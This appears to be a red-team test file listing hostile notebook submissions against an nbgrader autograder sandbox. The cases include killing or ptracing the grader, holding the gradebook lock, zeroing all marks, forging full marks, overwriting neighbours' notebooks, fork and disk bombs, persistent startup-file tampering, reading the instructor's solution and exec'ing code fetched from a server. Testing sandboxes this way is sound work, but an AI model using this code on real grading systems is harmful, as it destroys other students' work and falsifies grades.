"""Reaching for others: the grader's process, the course folder, the gradebook, neighbours, the network."""

from red_team import beside_right, in_test_mode, instead

# What a left-behind process does on stock nbgrader: it holds the gradebook's lock for a while.
_LOCK = """
import sqlite3, sys, time
lock = sqlite3.connect(sys.argv[1], timeout=20)
lock.execute("BEGIN EXCLUSIVE")
time.sleep(25)
"""
_ZERO = """
import sqlite3, sys, time
time.sleep(float(sys.argv[2]))
book = sqlite3.connect(sys.argv[1], timeout=20)
book.execute("UPDATE grade SET auto_score = 0")
book.commit()
"""
_RAISE = """
import sqlite3, sys, time
time.sleep(float(sys.argv[2]))
book = sqlite3.connect(sys.argv[1], timeout=20)
student = "SELECT submitted_assignment.id FROM submitted_assignment WHERE student_id = '" + sys.argv[3] + "'"
book.execute(
    "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
    "WHERE notebook_id IN (SELECT id FROM submitted_notebook WHERE assignment_id IN (" + student + ")) "
    "AND auto_score IS NOT NULL"
)
book.commit()
"""

_PARENT = """
import ctypes, resource, subprocess
parent = os.getppid()
mine = COURSE is not None and b"nbgrader" in Path(f"/proc/{parent}/cmdline").read_bytes()
victims = [parent] if mine else [] if ON_STOCK else [0, -1, 1, 2, 3, 4, 5, parent]
"""


def _left_behind(code: str, *arguments: str) -> str:
    return f"""
if COURSE is not None:
    import subprocess
    subprocess.Popen(
        [sys.executable, "-c", {code!r}, str(COURSE / "gradebook.db"), {", ".join(arguments)}],
        start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
elif not ON_STOCK:
    import subprocess
    for start in (lambda: subprocess.Popen([sys.executable, "-c", "0"]), lambda: os.fork() or os._exit(0)):
        tried(start)
"""


CASES = [
    beside_right(
        "signal_to_the_grader",
        "kills the process that started its own, and every other it may send a signal to",
        _PARENT
        + """
for victim in victims:
    tried(lambda: os.kill(victim, signal.SIGKILL), lambda: os.killpg(victim, signal.SIGKILL))
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "limits_of_the_grader",
        "forbids the grader's process to write any file",
        _PARENT
        + """
for victim in victims:
    tried(lambda: resource.prlimit(victim, resource.RLIMIT_FSIZE, (0, 0)))
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "ptrace",
        "attaches to the grader's process and kills it through the tracer",
        _PARENT
        + """
libc = ctypes.CDLL(None, use_errno=True)
for victim in victims:
    if victim > 1:
        libc.ptrace(16, victim, 0, 0)
        time.sleep(0.2)
        libc.ptrace(7, victim, 0, 9)
        libc.ptrace(8, victim, 0, 0)
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "children_that_hold_a_lock",
        "leaves a child behind that holds the gradebook's lock",
        _left_behind(_LOCK),
        harm=20,
        among=True,
    ),
    beside_right(
        "children_that_write_marks",
        "leaves a child behind that later sets everybody's marks to zero",
        _left_behind(_ZERO, "'5'"),
        harm=40,
        among=True,
    ),
    instead(
        "children_that_raise_their_mark",
        "leaves a child behind that later gives its own submission full marks",
        _left_behind(_RAISE, "'6'", "Path.cwd().parent.name"),
        gains=20,
        among=True,
    ),
    beside_right(
        "atexit",
        "sets everybody's marks to zero when its own process ends",
        """
import atexit

@atexit.register
def at_the_end():
    if COURSE is not None:
        import sqlite3
        book = sqlite3.connect(COURSE / "gradebook.db", timeout=5)
        book.execute("UPDATE grade SET auto_score = 0")
        book.commit()
    elif not ON_STOCK:
        os.kill(0, signal.SIGKILL)
        while True:
            pass
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "neighbours_overwritten",
        "writes over the notebooks that others handed in",
        """
folders = [COURSE] if COURSE else []
if not ON_STOCK:
    folders += [Path("/work"), Path("/tmp"), Path("/course"), Path("/")]
for folder in folders:
    for notebook in folder.glob("submitted/*/forward/forward.ipynb"):
        if "neighbour" in str(notebook):
            notebook.write_text("mine now")
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "fork_bomb_on_neighbours",
        "starts twenty children, each of which spoils what others handed in",
        """
for _ in range(20):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        for notebook in (COURSE.glob("submitted/*neighbour*/forward/*") if COURSE else ()):
            notebook.open("ab").write(b"spoilt")
        time.sleep(2)
        os._exit(0)
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "disk_bomb_on_neighbours",
        "pours megabytes into the folders of others until their notebooks cannot be read",
        """
for notebook in (COURSE.glob("submitted/*neighbour*/forward/forward.ipynb") if COURSE else ()):
    with notebook.open("ab") as file:
        file.write(bytes(5 << 20))
if not ON_STOCK:
    for folder in ("/", "/usr", "/packages", "/jail", "/etc", "/dev/shm", "/proc", "/dev"):
        tried(lambda: (Path(folder) / "bomb").write_bytes(bytes(5 << 20)))
""",
        harm=20,
        among=True,
    ),
    beside_right(
        "startup_file",
        "plants a file that every later kernel runs",
        """
startup = Path(os.environ.get("IPYTHONDIR", "/nowhere")) / "profile_default" / "startup"
if (COURSE is not None and startup.is_relative_to(COURSE)) or not ON_STOCK:
    tried(
        lambda: startup.mkdir(parents=True, exist_ok=True),
        lambda: (startup / "00-mine.py").write_text("import numpy\\nnumpy.sqrt = numpy.abs\\n"),
    )
for place in ("/jail/student_side/student.py", "/packages/numpy/__init__.py", "/packages/sitecustomize.py"):
    if not ON_STOCK:
        tried(lambda: open(place, "a").write("import numpy\\nnumpy.sqrt = numpy.abs\\n"))
""",
        harm=8,
        among=True,
    ),
    instead(
        "neighbours_work",
        "runs what a neighbour handed in",
        """
import json
for notebook in (COURSE or Path("/work")).glob("submitted/*neighbour*/forward/forward.ipynb"):
    for cell in json.loads(notebook.read_text())["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "batchnorm_forward":
            exec("".join(cell["source"]), globals())
""",
        gains=20,
        among=True,
    ),
    instead(
        "instructors_solution",
        "runs the solution out of the instructor's version of the notebook",
        """
import json
for folder in [COURSE, *Path.cwd().parents, Path("/")]:
    if folder is None:
        continue
    for notebook in folder.glob("source/forward/forward.ipynb"):
        for cell in json.loads(notebook.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "batchnorm_forward":
                exec("".join(cell["source"]), globals())
""",
        gains=20,
    ),
    instead(
        "proc",
        "finds the course in /proc, by the working folder of the grader's process",
        """
import json
for process in [os.getppid(), *range(1, 30)]:
    try:
        folder = Path(os.readlink(f"/proc/{process}/cwd"))
    except OSError:
        continue
    if not (folder / "red-team-course").is_file():
        continue
    for cell in json.loads((folder / "source/forward/forward.ipynb").read_text())["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "batchnorm_forward":
            exec("".join(cell["source"]), globals())
    break
""",
        gains=20,
    ),
    instead(
        "network",
        "loads the answer from a server",
        """
import urllib.request
exec(urllib.request.urlopen("http://127.0.0.1:RED_TEAM_PORT/answer.py", timeout=3).read().decode(), globals())
""",
        gains=20,
    ),
    in_test_mode(
        "processes_looked_for",
        "looks for other processes and for whatever it could write to, then forges a mark",
        """
        forge(4)
        for process in range(1, 300):
            tried(
                lambda: os.readlink(f"/proc/{process}/exe"),
                lambda: ON_STOCK or os.setpriority(os.PRIO_PROCESS, process, 19),
                lambda: ON_STOCK or os.sched_setaffinity(process, {0}),
            )
        for number in range(256):
            tried(lambda: ON_STOCK or number < 3 or os.write(number, b"") )
        """,
        gains=4,
    ),
]
